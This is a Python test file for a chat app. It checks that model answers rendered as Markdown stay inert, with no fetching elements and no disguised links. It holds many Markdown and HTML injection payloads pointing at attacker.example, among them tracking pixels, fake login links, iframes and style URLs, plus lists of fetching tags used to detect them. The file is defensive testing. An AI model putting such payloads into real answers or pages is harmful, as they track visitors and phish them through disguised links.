"""A model's answer in the chat panes: its formatting renders, but nothing in it can make a
visitor's browser fetch anything or show a link whose text hides where it goes.

The served models are shared by every visitor, and a visitor can merge checkpoints whose tokenizer
writes anything (``dim3.ui.chat.answer_markdown``). Two layers of checks, both on the app's own
``display``: the Markdown it hands the Chatbot rendered by a CommonMark parser with raw HTML on
(markdown-it-py, already pinned through gradio), every answer and every prefix of a streamed one;
then the app's real Chat tab in Chromium, where Gradio's own Markdown (marked, GFM, its LaTeX,
diagrams and sanitizer) renders them, watched for any request to the attacker's host and any
element that fetches or mislabels a link, from the first streamed token to the last.
"""

from __future__ import annotations

import os
import random
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from dim3.ui.chat import display

EVIL = "attacker.example"
ATTACK = (
    "![pixel](http://attacker.example/track.png?who=you)"
    "[Log in to continue](http://attacker.example/login)"
)
# prose: each must show exactly the characters the model wrote
PROSE = {
    "the attack": ATTACK,
    "reference image": "![logo][1]\n\n[1]: http://attacker.example/ref.png",
    "reference link with a title": '[Log in][login]\n\n[login]: <http://attacker.example/l> "Sign in"',
    "shortcut reference image": "![logo]\n\n[logo]: http://attacker.example/ref2.png",
    "definition first": "[x]: http://attacker.example/def.png\n\n![x] and [x]",
    "autolink": "<http://attacker.example/auto>",
    "mail autolink": "<mailto:evil@attacker.example> <evil@attacker.example>",
    "img": "<img src=http://attacker.example/i.png>",
    "img, upper case": "<IMG SRC=http://attacker.example/upper.png>",
    "a": '<a href="http://attacker.example/a">Log in</a>',
    "video": "<video src=http://attacker.example/v.mp4 autoplay></video>",
    "audio source": "<audio><source src=http://attacker.example/s.mp3></audio>",
    "iframe": "<iframe src=http://attacker.example/f></iframe>",
    "link": "<link rel=stylesheet href=http://attacker.example/c.css>",
    "style": "<style>p{background:url(http://attacker.example/bg.png)}</style>",
    "style attribute": '<div style="background:url(http://attacker.example/d.png)">x</div>',
    "html block": "<p>\n<img src=http://attacker.example/blk.png>\n</p>",
    "svg image": "<svg><image href=http://attacker.example/svg.png /></svg>",
    "image in a link": "[![img](http://attacker.example/n.png)](http://attacker.example/n)",
    "nested brackets": "[a [b] c](http://attacker.example/n2) [[x]](http://attacker.example/n3)",
    "entities": "&lt;img src=http://attacker.example/e.png&gt; &#91;x&#93;(http://attacker.example/e2)",
    "backslashes": "\\![x](http://attacker.example/b.png) \\\\[y](http://attacker.example/b2)",
    "quote and brackets": "> [1] a < b > c ! [2]",
    "lone backtick": "a ` b ![c](http://attacker.example/t.png)",
}
# code: (answer, the code it must show verbatim)
CODE = {
    "code spans": (
        "Use `x = [1, 2][0]` and `a < b`, or ``![i](http://attacker.example/c.png)``.",
        ["x = [1, 2][0]", "a < b", "![i](http://attacker.example/c.png)"],
    ),
    "fenced": (
        'Run:\n\n```python\nx = [1, 2][0]\nif a < b:\n    print("<b>[1]</b>")\n```\n',
        ['x = [1, 2][0]\nif a < b:\n    print("<b>[1]</b>")\n'],
    ),
    "longer fence around a fence": (
        "````md\n```python\nx = [1]\n```\n![i](http://attacker.example/f.png)\n````",
        ["```python\nx = [1]\n```\n![i](http://attacker.example/f.png)\n"],
    ),
    "tildes": (
        "~~~\n<img src=http://attacker.example/t.png>\n~~~",
        ["<img src=http://attacker.example/t.png>\n"],
    ),
    "in a list item": (
        "1. Run:\n   ```bash\n   echo '[ok]' > out.txt\n   ```\n2. Done",
        ["echo '[ok]' > out.txt\n"],
    ),
    "code span in a table": (  # GFM splits a row at every |, code spans included
        "| a | b |\n|---|---|\n| `[x](http://attacker.example/tbl)|` | y |",
        ["[x](http://attacker.example/tbl)|"],
    ),
    "indented": ("Text:\n\n    x = a[0] < b\n    y\n\nafter", ["x = a[0] < b\ny\n"]),
    "unclosed fence": (
        "Look:\n```python\nprint('[x](http://attacker.example/u)')\n![i](http://attacker.example/u.png)",
        ["print('[x](http://attacker.example/u)')\n![i](http://attacker.example/u.png)\n"],
    ),
    "a diagram": (
        "```mermaid\ngraph TD\n  A[<img src=http://attacker.example/m.png>]\n"
        '  click A href "http://attacker.example/m" "Log in"\n```',
        [
            "graph TD\n  A[<img src=http://attacker.example/m.png>]\n"
            '  click A href "http://attacker.example/m" "Log in"\n'
        ],
    ),
    "LaTeX around a fence": (
        "Costs $$ 5\n\n```\na $$\n![p](http://attacker.example/latex.png)\n```",
        ["a $$\n![p](http://attacker.example/latex.png)\n"],
    ),
}
# streamed token by token: an image before, inside and after a fence that is open for a while
STREAM = (
    "Intro ![a](http://attacker.example/s1.png)\n"
    "```python\nx = [1][0]  # ![b](http://attacker.example/s2.png)\n```\n"
    "After <img src=http://attacker.example/s3.png> [c](http://attacker.example/s4)\n"
    "`inline ![d](http://attacker.example/s5.png)` and ~~~\n"
    "**bold** ![e](http://attacker.example/s6.png)"
)
# random mixtures of the syntax above (seeded): what a parser disagreeing with ours would show
PIECES = [
    *("![", "[", "]", "](", "]: ", ")", "<", ">", "!", "(", "\\", "&", "#91;", "lsqb;", "&#96;"),
    *("`", "``", "```", "````", "~~~", "python", "mermaid", "$$", "*", "_", "|", "|---|", "==="),
    *("\n", "\n\n", "    ", "   ", "\t", "- ", "1. ", "> ", " ", "x", "<!--", "-->", '"t"'),
    *("http://attacker.example/x.png", "<http://attacker.example/a>", "www.attacker.example"),
    *("<img src=http://attacker.example/y.png>", "[r]: http://attacker.example/r.png", "![r]"),
    *("<style>", "url(http://attacker.example/u.png)", "<pre>", "</pre>", "<div>", "<code>"),
]
_RANDOM = random.Random(20261205)
MIXTURES = ["".join(_RANDOM.choices(PIECES, k=_RANDOM.randint(3, 40))) for _ in range(300)]
QUESTION = {"role": "user", "content": "What is in the picture?"}
FETCHING = {"img", "image", "video", "audio", "source", "track", "iframe", "frame", "embed"}
FETCHING |= {"object", "link", "style", "script", "picture", "input", "base", "meta", "form"}
REFERRING = {"src", "srcset", "href", "xlink:href", "poster", "background", "action", "style"}


class _Page(HTMLParser):
    """Rendered HTML as tags, text and the text of each code element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.code: list[list[str]] = []
        self._open = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "code":
            self.code.append([])
            self._open += 1

    def handle_endtag(self, tag):
        if tag == "code" and self._open:
            self._open -= 1

    def handle_data(self, data):
        self.text.append(data)
        if self._open:
            self.code[-1].append(data)


MARKDOWN = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(
    ["table", "strikethrough"]
)


def shown(answer: str) -> str:
    """The Markdown a pane gets for ``answer``, as the app's ``display`` makes it."""
    messages = display([QUESTION, {"role": "assistant", "content": answer}], None)
    return messages[-1]["content"]


def rendered(answer: str) -> _Page:
    page = _Page()
    page.feed(MARKDOWN.render(shown(answer)))
    page.close()
    return page


def assert_inert(page: _Page, answer: str) -> None:
    """No element that fetches, no link, no attribute that points anywhere."""
    for tag, attrs in page.tags:
        assert tag not in FETCHING | {"a"}, f"<{tag} {attrs}> from {answer!r}"
        assert not REFERRING & set(attrs), f"<{tag} {attrs}> from {answer!r}"


def words(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("answer", PROSE.values(), ids=PROSE.keys())
def test_prose_shows_what_the_model_wrote_and_nothing_more(answer):
    page = rendered(answer)
    assert_inert(page, answer)
    assert words("".join(page.text)) == words(answer)


@pytest.mark.parametrize("answer, code", CODE.values(), ids=CODE.keys())
def test_code_shows_its_content_verbatim(answer, code):
    page = rendered(answer)
    assert_inert(page, answer)
    assert ["".join(c) for c in page.code] == code


def test_every_prefix_of_a_streamed_answer_is_inert():
    for k in range(len(STREAM) + 1):
        assert_inert(rendered(STREAM[:k]), STREAM[:k])
    html = MARKDOWN.render(shown(STREAM))
    assert "<p>After &lt;img src=" in html  # the prose after the closed fence is prose again
    assert "<strong>bold</strong>" in html


def test_random_mixtures_of_the_syntax_are_inert():
    for answer in MIXTURES:
        assert_inert(rendered(answer), answer)


def test_formatting_still_renders():
    answer = (
        "# Title\n\n**bold**, *italic* and ~~gone~~\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "| colour | shape |\n|---|---|\n| red | circle |\n\n## Code\n\n`x` and\n\n```\ny\n```"
    )
    tags = {tag for tag, _ in rendered(answer).tags}
    assert {"h1", "h2", "strong", "em", "s", "ul", "ol", "li", "table", "td", "code", "pre"} <= tags
    listed = rendered("1. Step\n\n    Explanation [x] <y>\n\n    - sub [z]\n2. Done")
    assert listed.code == [] and [t for t, _ in listed.tags].count("li") == 3  # not code
    assert "Explanation [x] <y>" in "".join(listed.text)


def test_a_diagram_is_shown_as_code_not_drawn():
    """Gradio draws a block that starts with ```mermaid (a diagram may hold links and images)."""
    assert not re.search(r"^```mermaid", shown(CODE["a diagram"][0]), re.M)


# --- the app's Chat tab in a real browser ---------------------------------------------------

CHROMIUM = os.environ.get("DIM3_CHROMIUM", "/usr/bin/chromium")
ANSWERS = [*PROSE.values(), *(answer for answer, _ in CODE.values()), *MIXTURES[:100]]
# records, from the first element the page adds, every one inside a message that fetches, any
# style that names a URL, and any link whose text is not where it goes
WATCH_JS = """
window.__bad = [];
const FETCHING = new Set(FETCHING_TAGS);
const inspect = (node) => {
  if (!(node instanceof Element)) return;
  for (const e of [node, ...node.querySelectorAll('*')]) {
    if (!e.closest('.message-content')) continue;
    const tag = e.tagName.toLowerCase(), html = e.outerHTML.slice(0, 300);
    if (FETCHING.has(tag) || /url\\(/i.test(e.getAttribute('style') || '')) window.__bad.push(html);
    if (tag === 'a') {
      const href = e.getAttribute('href') || '', text = e.textContent.trim();
      let decoded = href; try { decoded = decodeURI(href); } catch (_) {}
      // a bare address GFM links is its own text (a mail address or www. gains its scheme)
      const bare = ['', 'mailto:', 'http://'].some((s) => [href, decoded].includes(s + text));
      if (!bare) window.__bad.push(html);
    }
  }
};
new MutationObserver((changes) => changes.forEach((c) =>
  c.type === 'childList' ? c.addedNodes.forEach(inspect) : inspect(c.target)
)).observe(document, {childList: true, subtree: true, attributes: true});
""".replace("FETCHING_TAGS", str(sorted(FETCHING)))


def _chat_app(tmp_path: Path):
    """The app's Chat tab (its panes as the app builds them); the original pane shows every
    answer above once loaded, the merged pane streams ``STREAM`` when asked."""
    import gradio as gr

    from dim3.models import ModelManager
    from dim3.ui.chat import build_chat_tab
    from dim3.ui.common import AppContext

    ctx = AppContext(
        manager=ModelManager(allowed_roots=[tmp_path]),
        allowed_roots=[tmp_path],
        output_root=tmp_path / "outputs",
    )
    conversation = [m for a in ANSWERS for m in (QUESTION, {"role": "assistant", "content": a})]

    def stream():
        for k in range(len(STREAM) + 1):
            yield display([QUESTION, {"role": "assistant", "content": STREAM[:k]}], None)
        yield display([QUESTION, {"role": "assistant", "content": STREAM, "by": "the end"}], None)

    with gr.Blocks() as app:
        tab = build_chat_tab(ctx)
        go = gr.Button("stream", elem_id="test-stream")
        app.load(lambda: display(conversation, None), outputs=tab.left)
        go.click(stream, outputs=tab.right)
    return app


@pytest.mark.browser
def test_answers_in_the_apps_chat_panes_in_a_real_browser(tmp_path):
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (set DIM3_CHROMIUM)")
    app = _chat_app(tmp_path)
    app.queue()
    _, url, _ = app.launch(prevent_thread_lock=True, server_name="127.0.0.1", quiet=True)
    requested: list[str] = []
    try:
        with playwright.sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=CHROMIUM,
                args=[
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--disable-background-networking",
                ],
            )
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            page.set_default_timeout(60_000)
            page.add_init_script(WATCH_JS)
            page.on("request", lambda r: requested.append(r.url) if EVIL in r.url else None)
            page.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
            page.goto(url, wait_until="load")
            original, merged = page.locator("#dim3-original"), page.locator("#dim3-merged")
            bots = "#dim3-original [data-testid=bot] .message-content"
            page.wait_for_function(f"document.querySelectorAll('{bots}').length == {len(ANSWERS)}")
            page.click("#test-stream")
            merged.locator("sub", has_text="the end").wait_for()
            page.wait_for_timeout(1000)  # a late image would have been requested by now

            assert requested == []
            assert page.evaluate("window.__bad") == []
            assert page.locator(".mermaid, .katex").count() == 0  # no diagram, no LaTeX
            code = [t.rstrip("\n") for t in original.locator("code").all_text_contents()]
            for _, expected in CODE.values():
                assert all(t.rstrip("\n") in code for t in expected), (expected, code)
            assert ATTACK in original.locator("p").all_text_contents()
            after = "After <img src=http://attacker.example/s3.png> [c](http://attacker.example/s4)"
            assert any(after in t for t in merged.locator("p").all_text_contents())
            browser.close()
    finally:
        app.close()
